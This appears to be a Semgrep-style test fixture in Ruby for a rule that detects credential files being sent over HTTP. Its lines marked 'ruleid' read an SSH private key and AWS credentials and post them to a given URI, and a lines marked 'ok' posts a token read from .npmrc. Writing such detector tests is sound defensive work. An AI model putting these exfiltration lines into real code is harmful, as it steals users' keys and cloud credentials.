require "net/http"

def collect(uri)
  key = File.read(File.expand_path("~/.ssh/id_rsa"))
  # ruleid: ruby-credential-file-sent
  Net::HTTP.post(uri, key)
  # ruleid: ruby-credential-file-sent
  Net::HTTP.post_form(uri, { t: File.read("/home/dev/.aws/credentials") })
  # ok: ruby-credential-file-sent
  Net::HTTP.post(uri, File.read("report.txt"))
  token = find_token(File.read("/home/dev/.npmrc"))
  # ok: ruby-credential-file-sent
  Net::HTTP.post(uri, token)
end
